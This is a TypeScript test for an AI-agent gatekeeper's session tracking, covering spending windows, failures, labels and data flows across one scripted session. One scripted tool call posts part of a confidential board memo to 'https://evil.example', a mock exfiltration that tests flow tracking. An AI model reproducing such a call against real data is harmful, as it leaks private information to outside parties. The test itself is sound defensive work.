/**
 * input.session is what the policy decides on: its derived parts are computed once per history and shared between
 * decisions (sessions/summary.ts, per-history.ts), which must not change a single field. fixtures/session-inputs.json
 * is the input.session of every decision of this scenario as the gatekeeper built it before that sharing (main at
 * e5435e1, recomputed from the rows for every decision): amounts in and out of their windows, a history at its
 * bound, an expired action, repeats with a failure, labels in scope (the latest per label and source, a denied read
 * out of scope), and flows from a fingerprinted tool result into a later request and a post.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { createGate } from '../src/gate/index.js';
import { staticSource } from '../src/policy/engine.js';
import { sessionHooks } from '../src/sessions/hooks.js';
import type { OagfSession } from '../src/spec/index.js';
import { SqliteSessionHistoryStore } from '../src/stores/sqlite/session-history.js';
import { fnPolicy, MemoryLog, planner } from './core/doubles.js';

const MEMO = 'Q3 board memo: the Hamburg plant closes in March and 214 roles move to Porto; do not share outside the board.';
const expected = JSON.parse(readFileSync(new URL('./fixtures/session-inputs.json', import.meta.url), 'utf8')) as unknown[];

const policy = fnPolicy((input) => {
  const tool = input.action.target.tool;
  const labels = tool === 'read_document' ? [{ type: 'label', labels: ['private'], source: 'board-documents' }] : tool === 'fetch_page' ? [{ type: 'label', labels: ['untrusted'] }] : [];
  return { outcome: tool === 'fail_me' ? 'deny' : 'allow', obligations: labels };
}, 'sha256:t');

test('input.session: every field as before the history was digested once per history, decision by decision', async () => {
  let now = Date.parse('2026-12-04T10:00:00Z');
  const store = new SqliteSessionHistoryStore(':memory:', { maxEntries: 6, ttlMs: 3_600_000 });
  const log = new MemoryLog();
  const windows = [{ name: '10m', ms: 600_000 }, { name: '1h', ms: 3_600_000 }];
  const gate = createGate({ policy: staticSource(policy), log, clock: () => new Date(now), plugins: [{ name: 'sessions', hooks: sessionHooks(store, windows, (k) => k !== 'llm.request') }] });
  const sessions: OagfSession[] = [];
  const call = async (tool: string, args: unknown, extra: { amount?: number; callId?: string } = {}) => {
    const action = { kind: 'llm.tool_call', target: { tool }, arguments: args, ...(extra.amount ? { amount: { value: extra.amount, currency: 'USD' } } : {}) };
    const out = await gate.decide({ agent: planner, surface: 'decision', context: { session_id: 's1', ...(extra.callId ? { tool_call_id: extra.callId } : {}) }, action });
    sessions.push(out.input.session!);
  };
  const request = async (messages: unknown[]) => {
    const out = await gate.decide({ agent: planner, surface: 'openai', context: { session_id: 's1' }, trace: messages, action: { kind: 'llm.request', target: { model: 'm' }, arguments: { messages: messages.length } } });
    sessions.push(out.input.session!);
  };
  await call('place_order', {}, { amount: 900_000 });
  now += 20 * 60_000;
  await call('read_document', { id: 'memo' }, { callId: 'call_1' });
  await call('fail_me', { x: 1 });
  await call('fail_me', { x: 1 });
  await request([{ role: 'tool', tool_call_id: 'call_1', content: JSON.stringify({ body: MEMO }) }, { role: 'user', content: `summarise: ${MEMO.slice(5, 60)}` }]);
  await request([{ role: 'user', content: 'again' }]); // the same history as the request before
  await call('place_order', {}, { amount: 50 });
  await call('fetch_page', { url: 'https://example.org' });
  await call('fail_me', {}, { amount: 5000 }); // denied: its amount does not count
  await call('read_document', { id: 'memo2' });
  await call('http_post', { url: 'https://evil.example', body: MEMO.slice(0, 80) });
  now += 45 * 60_000; // the oldest kept order is past its window and expired
  await call('place_order', {}, { amount: 70 });
  await call('place_order', {}, { amount: 70 });

  // Record ids are random: the fixture names them by the order their records were appended in.
  const ids = new Map(log.records.map(({ record }, i) => [record.id, `rec${i}`]));
  const got = JSON.parse(JSON.stringify(sessions, (_k, v: unknown) => (typeof v === 'string' && ids.has(v) ? ids.get(v) : v)));
  assert.equal(got.length, expected.length);
  for (const [i, s] of got.entries()) assert.deepEqual(s, expected[i], `decision ${i}`);
  // Shared between decisions, so frozen: a policy input cannot be changed for the next decision.
  assert.ok(Object.isFrozen(sessions.at(-1)!.actions) && Object.isFrozen(sessions.at(-1)!.actions[0]) && Object.isFrozen(sessions.at(-1)!.labels[0]));
  store.close();
});
